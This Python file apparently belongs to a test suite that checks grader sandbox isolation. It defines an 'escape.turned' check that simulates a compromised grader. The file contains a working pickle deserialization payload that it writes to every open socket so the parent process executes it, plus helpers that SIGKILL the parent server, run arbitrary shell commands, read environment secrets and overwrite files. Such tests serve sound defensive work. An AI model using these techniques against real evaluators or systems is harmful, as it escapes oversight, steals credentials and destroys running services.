"""A check whose process an agent's file has turned: it does what native code in a grader could do.

What it got is its evidence.
"""

from __future__ import annotations

import os
import pickle
import signal
import socket
import stat
import struct
import subprocess
import time
from collections.abc import Callable
from typing import Any

from verifiers.base import Args, Case, Finding, check


class Payload:
    """Writes the process id of whoever unpickles it."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (f"import os, pathlib; pathlib.Path({self.path!r}).write_text(str(os.getpid()))",)


class Turned(Args):
    does: str
    to: str = ""


def _write_to_parent(path: str) -> str:
    body = pickle.dumps(Payload(path))
    frame = struct.pack("!i", len(body)) + body  # as multiprocessing's connections send it
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            continue
    return ""


def _read(path: str) -> str:
    with open(path) as file:
        return file.read()


def _write(path: str) -> str:
    with open(path, "w") as file:
        file.write("mine")
    return ""


def _connect(port: str) -> str:
    with socket.create_connection(("127.0.0.1", int(port)), 5) as connection:
        return connection.recv(4096).decode()


def _kill(_: str) -> str:
    server = os.getppid()
    if server > 1:
        os.kill(server, signal.SIGKILL)
        time.sleep(5)
    return ""


def _run(command: str) -> str:
    return subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, check=True).stdout


def _key(name: str) -> str:
    return os.environ[name]


_DOES: dict[str, Callable[[str], str]] = {
    "write to parent": _write_to_parent,
    "read": _read,
    "write": _write,
    "connect": _connect,
    "kill": _kill,
    "run": _run,
    "key": _key,
}


@check("escape.turned", Turned)
def turned(case: Case, args: Turned) -> Finding:
    """Does what it likes."""
    return Finding(1.0, f"got: {_DOES[args.does](args.to)[:1000]}")
